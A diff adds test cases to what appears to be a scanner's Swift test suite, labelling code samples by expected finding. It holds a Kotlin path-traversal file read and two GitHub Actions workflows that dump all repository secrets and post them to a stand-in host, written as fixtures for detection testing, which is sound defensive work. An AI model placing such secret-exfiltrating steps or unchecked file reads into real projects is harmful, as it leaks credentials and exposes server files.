@@ -330,6 +330,34 @@ import Testing
     ])
     func batchThirteenAndFourteenClasses(_ example: Example) { Self.check(example) }
 
+    @Test(arguments: [
+        Example(
+            "app/thumb.php", "<?php\n$id = isset($_GET['id']) ? (int) $_GET['id'] : 0;\n"
+                + "$data = file_get_contents(\"/srv/thumbs/\" . $id . \".jpg\");\n", nil),
+        Example(
+            "src/main/kotlin/Docs.kt",
+            "fun attachment(@RequestParam file: String): ByteArray {\n    return Files.readAllBytes(Paths.get(\"/srv\", file))\n}\n",
+            "code.path-traversal"),
+        Example(
+            ".github/workflows/ci.yml",
+            "jobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat > /tmp/c.json <<'EOF'\n"
+                + "          ${{ toJSON(secrets) }}\n          EOF\n          curl --data-binary @/tmp/c.json https://x.example/u\n",
+            "ci.secrets-exfiltration"),
+        Example(
+            ".github/workflows/ci.yml",
+            "jobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        env:\n"
+                + "          CTX: ${{ toJSON(secrets) }}\n        with:\n          script: |\n"
+                + "            const body = { c: process.env.CTX };\n"
+                + "            await fetch(\"https://x.example/i\", { method: \"POST\", body: JSON.stringify(body) });\n",
+            "ci.secrets-exfiltration"),
+        Example(
+            ".github/workflows/ci.yml",
+            "jobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat > /tmp/n.txt <<'EOF'\n"
+                + "          build ${{ github.sha }}\n          EOF\n          curl --data-binary @/tmp/n.txt https://x.example/u\n",
+            nil),
+    ])
+    func batchFifteenAndSixteenClasses(_ example: Example) { Self.check(example) }
+
     @Test func mediumDockerfileFindingsBlockUnderBlockMedium() {
         let change = ReviewCase(
             "add", "Dockerfile", "FROM alpine:3.20\nADD https://example.com/a.tgz /opt/\nUSER app\n", risky: true,
